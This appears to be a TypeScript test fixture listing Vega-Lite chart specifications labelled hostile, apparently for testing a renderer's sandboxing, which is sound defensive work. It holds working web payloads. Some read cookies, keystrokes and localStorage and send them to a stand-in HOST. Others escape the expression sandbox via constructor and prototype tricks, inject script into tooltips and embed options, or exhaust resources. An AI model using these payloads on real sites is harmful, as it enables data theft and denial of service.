import type { JsonObject } from '../../src/base/json';

const VALUES = {
  values: [
    { a: 'x', b: 28, url: 'HOST' },
    { a: 'y', b: 55, url: 'HOST' },
  ],
};
const X = { field: 'a', type: 'nominal' };
const Y = { field: 'b', type: 'quantitative' };
const BAR: JsonObject = { data: VALUES, mark: 'bar', encoding: { x: X, y: Y } };

/** A bar chart with something more. */
const bar = (more: object): JsonObject => ({ ...BAR, ...more }) as JsonObject;
const encoded = (more: object): JsonObject => bar({ encoding: { x: X, y: Y, ...more } });
const marked = (more: object): JsonObject => bar({ mark: { type: 'bar', ...more } });
/** Ten thousand rows for each of the two, and a chart of them. */
const MANY = [{ calculate: 'sequence(10000)', as: 's' }, { flatten: ['s'] }];
const S = { field: 's', type: 'quantitative' };
const many = (more: object): JsonObject =>
  ({
    data: VALUES,
    transform: MANY,
    mark: 'point',
    encoding: { x: S, y: Y },
    ...more,
  }) as JsonObject;
/** A chart that says what an expression gives. */
const said = (calculate: string): JsonObject => ({
  data: VALUES,
  transform: [{ calculate, as: 'said' }],
  mark: 'text',
  encoding: { y: X, text: { field: 'said' } },
});
/** A chart whose parameter listens, and shows what it hears. */
const heard = (on: string, update: string): JsonObject =>
  ({
    ...BAR,
    params: [{ name: 'heard', value: 'nothing', on: [{ events: on, update }] }],
    title: { text: { expr: 'heard' } },
  }) as JsonObject;

/** Chart specifications that mean harm; `HOST` stands for the listener. What they read has to stay unread. */
export const hostileCharts: readonly JsonObject[] = [
  // data from elsewhere
  bar({ data: { url: 'http://HOST/data.json' } }),
  bar({ data: { url: '//HOST/data.csv', format: { type: 'csv' } } }),
  bar({ data: { url: 'http://HOST/map.json', format: { type: 'topojson', feature: 'x' } } }),
  bar({ data: { url: { expr: "'http://HOST/' + 1" } } }),
  bar({ data: { url: 'data.json', format: { type: 'json' } } }),
  bar({ data: { url: 'javascript:fetch("http://HOST/js")' } }),
  bar({ transform: [{ lookup: 'a', from: { data: { url: 'http://HOST/lookup' }, key: 'a', fields: ['c'] } }] }),
  { layer: [BAR, bar({ data: { url: 'http://HOST/layer' } })] },
  { hconcat: [BAR, bar({ data: { url: 'http://HOST/concat' } })] },
  bar({ datasets: { far: { url: 'http://HOST/named' } }, data: { name: 'far' } }),
  // images and styles that load
  { data: VALUES, mark: 'image', encoding: { x: X, y: Y, url: { value: 'http://HOST/image.png' } } },
  { data: VALUES, mark: 'image', encoding: { x: X, y: Y, url: { field: 'url' } } },
  { data: VALUES, transform: [{ calculate: "'http://HOST/?d=' + datum.b", as: 'u' }], mark: 'image', encoding: { x: X, y: Y, url: { field: 'u' } } },
  { data: VALUES, mark: { type: 'image', url: 'http://HOST/mark.svg', width: 20, height: 20 }, encoding: { x: X, y: Y } },
  marked({ cursor: 'url(http://HOST/cursor.cur), auto' }),
  marked({ fill: 'url(http://HOST/fill.svg#a)' }),
  marked({ stroke: 'u\\72l(http://HOST/stroke)' }),
  marked({ color: { expr: "'url(http://HOST/expr)'" } }),
  encoded({ color: { value: 'image-set("http://HOST/set" 1x)' } }),
  bar({ background: 'url(http://HOST/background)' }),
  bar({ config: { font: "x; background: url('http://HOST/font')" } }),
  bar({ title: { text: 'T', font: 'url(http://HOST/title)' } }),
  bar({ view: { fill: { expr: "'url(http://HOST/view)'" } } }),
  // tooltips
  encoded({ tooltip: [{ field: 'url', title: 'image' }] }),
  encoded({ tooltip: { value: '<img src="http://HOST/tooltip">' } }),
  bar({ transform: [{ calculate: "{ image: 'http://HOST/tip.png?d=' + datum.b, title: '<b>x</b>' }", as: 't' }], encoding: { x: X, y: Y, tooltip: { field: 't' } } }),
  // links
  encoded({ href: { value: 'http://HOST/href' } }),
  encoded({ href: { field: 'url' } }),
  marked({ href: 'javascript:fetch("http://HOST/click")' }),
  marked({ href: { expr: "'http://HOST/' + event.view.localStorage.victim" } }),
  // what embeds it
  bar({ usermeta: { embedOptions: { ast: false, actions: true, editorUrl: 'http://HOST/editor' } } }),
  bar({ usermeta: { embedOptions: { loader: { baseURL: 'http://HOST/' }, patch: 'http://HOST/patch.json' } } }),
  bar({ usermeta: { embedOptions: { sourceHeader: '<script src="http://HOST/header"></script>', config: 'http://HOST/config.json' } } }),
  bar({ $schema: 'https://vega.github.io/schema/vega/v6.json', signals: [{ name: 's', init: 'event' }] }),
  bar({ config: { events: { defaults: { allow: ['keydown'] }, window: ['keydown'] } } }),
  // listening to the page
  heard('window:keydown', 'event.key'),
  heard('window:input', 'event.target.value'),
  heard('window:mousemove', 'event.view.localStorage.victim'),
  heard('mousemove', 'event.view.document.title'),
  heard('mousemove', 'event.target.ownerDocument.cookie'),
  heard('mousemove', 'event.dataflow._el.ownerDocument.defaultView.localStorage.victim'),
  heard('mousemove', "event['view']['local' + 'Storage']['victim']"),
  heard('click', 'event.view.fetch("http://HOST/click")'),
  heard('click', 'event.srcElement.baseURI'),
  heard('mousemove', 'event.item.mark.group.context.dataflow._el.innerHTML'),
  heard('timer{100}', "'tick'"),
  bar({ params: [{ name: 'pw', bind: { element: 'input' } }] }),
  bar({ params: [{ name: 'p', value: 1, bind: { input: 'text', name: '<img src=http://HOST/bind onerror=1>' } }] }),
  // expressions that reach for the page, or for code
  said('window.localStorage.victim'),
  said('self.fetch("http://HOST/self")'),
  said('datum.constructor.constructor("return this")().localStorage.victim'),
  said("datum['__proto__']['constructor']('return fetch(`http://HOST/proto`)')()"),
  said('toString.constructor("return 1")()'),
  said('[].filter.constructor("fetch(`http://HOST/filter`)")()'),
  said("replace('x', 'x', datum.constructor)"),
  said("scale(datum.constructor, 'x')"),
  said("data('__proto__').constructor"),
  said('{"__proto__": {"polluted": 1}}.polluted'),
  said("pluck([{}], 'constructor')[0]"),
  said("format(1, '$,.2f' + datum.constructor)"),
  said("lassoAppend([], 1, 2, datum.constructor)"),
  said("vlSelectionTuples([{ datum: { fields: 1 } }], { fields: [{ getter: datum.constructor }] })"),
  said("'http://HOST/' + inScope"),
  said("setdata('x', 1)"),
  said("modify('source_0', [{ a: 'z' }], true)"),
  // too much
  bar({ data: { sequence: { start: 0, stop: 1e9, as: 'a' } } }),
  said('length(sequence(1e9))'),
  bar({ width: 1e9 }),
  bar({ encoding: { x: { ...X, axis: { tickCount: 1e9 } }, y: Y } }),
  bar({ data: { graticule: { step: [0.0001, 0.0001] } }, mark: 'geoshape' }),
  { data: VALUES, repeat: Array.from({ length: 5000 }, () => 'a'), spec: BAR },
  // what would keep the page from answering
  many({}),
  many({ mark: 'line', encoding: { x: S, y: S, tooltip: S, order: S } }),
  many({ transform: [...MANY, { pivot: 's', value: 'b', groupby: ['s'] }] }),
  many({ transform: [...MANY, { impute: 'b', key: 's', groupby: ['s'], method: 'median' }] }),
  many({ transform: [...MANY, { window: [{ op: 'median', field: 's', as: 'b' }], frame: [null, null] }] }),
  many({ transform: [...MANY, { joinaggregate: [{ op: 'ci0', field: 's', as: 'b' }], groupby: ['a'] }] }),
  many({ transform: [...MANY, { density: 's', bandwidth: 1e-9, steps: 2000 }] }),
  many({ transform: [...MANY, { loess: 'b', on: 's', bandwidth: 1 }] }),
  many({ transform: [...MANY, { regression: 'b', on: 's', method: 'poly', order: 1000 }] }),
  many({ transform: [...MANY, { quantile: 'b', probs: Array.from({ length: 1000 }, (_, k) => k / 1000), groupby: ['s'] }] }),
  many({ encoding: { x: { field: 's', type: 'nominal' }, y: Y } }),
  many({ encoding: { x: X, y: Y, color: { field: 's', type: 'nominal' } } }),
  many({ mark: { type: 'point', shape: { expr: "pad('M0,0', 1000, 'L1,1')" } } }),
  many({ mark: { type: 'text', text: { expr: "pad('', 1e9, 'x')" } } }),
  many({ mark: { type: 'line', strokeDash: { expr: 'sequence(10000)' } } }),
  many({ transform: [...MANY, { calculate: "length(pluck(data('source_0'), 'b'))", as: 'n' }, { calculate: "join(sequence(10000), '-')", as: 'm' }] }),
  many({ encoding: { x: S, y: Y, opacity: { condition: Array.from({ length: 1000 }, (_, k) => ({ test: `datum.s > ${k}`, value: 0.1 })), value: 1 } } }),
  many({ transform: [...MANY, { calculate: 'datum.s % 17', as: 'r' }, { calculate: 'floor(datum.s / 17) % 17', as: 'c' }], encoding: { x: S, y: Y, row: { field: 'r' }, column: { field: 'c' } } }),
  { data: VALUES, transform: MANY, facet: { row: { field: 's' } }, spec: { layer: Array.from({ length: 30 }, () => ({ mark: 'point', encoding: { x: S, y: Y } })) } },
  { data: VALUES, hconcat: Array.from({ length: 40 }, () => ({ mark: 'bar', encoding: { x: X, y: Y } })) },
  bar({ params: Array.from({ length: 300 }, (_, k) => ({ name: `p${k}`, select: 'interval' })) }),
  bar({ params: Array.from({ length: 50 }, (_, k) => ({ name: `p${k}`, value: 1, bind: { input: 'select', options: Array.from({ length: 400 }, (_, n) => n) } })) }),
  said(Array.from({ length: 3000 }, () => '1').join('+')),
  { ...said("'x'"), transform: [{ calculate: "'xxxx'", as: 'said' }, ...Array.from({ length: 40 }, () => ({ calculate: 'datum.said + datum.said', as: 'said' }))] },
  { ...said('[1]'), transform: [{ calculate: '[1, 2]', as: 'said' }, ...Array.from({ length: 40 }, () => ({ calculate: '[datum.said, datum.said]', as: 'said' }))] },
  said("format(datum.b, '999999999d')"),
  marked({ strokeDash: [1e-9, 1e-9], stroke: 'black' }),
  marked({ width: 1e12, size: 1e12, strokeWidth: 1e9 }),
  { data: VALUES, mark: { type: 'text', fontSize: 1e12 }, encoding: { x: X, y: Y, text: X } },
  bar({ width: { step: 1e7 } }),
  bar({ title: { text: Array.from({ length: 5000 }, () => 'line') } }),
  bar({ transform: [{ calculate: "datetime(datum.a === 'x' ? 1 : 9999, 0)", as: 't' }], encoding: { x: { field: 't', type: 'temporal', axis: { tickCount: { interval: 'millisecond', step: 1 } } }, y: Y } }),
  encoded({ color: { field: 'b', type: 'quantitative', scale: { scheme: { name: 'viridis', count: 1e9 } } } }),
  { data: { sphere: true }, mark: 'geoshape', projection: { type: 'orthographic', precision: 1e-9, scale: 1e9 } },
  many({ mark: 'text', encoding: { x: S, y: Y, text: { field: 's', format: '.12f' } } }),
  many({ params: [{ name: 'near', select: { type: 'point', on: 'pointerover', nearest: true } }] }),
  bar({ data: { values: [{ a: 'x'.repeat(1e6), b: 1 }] } }),
]; // prettier-ignore
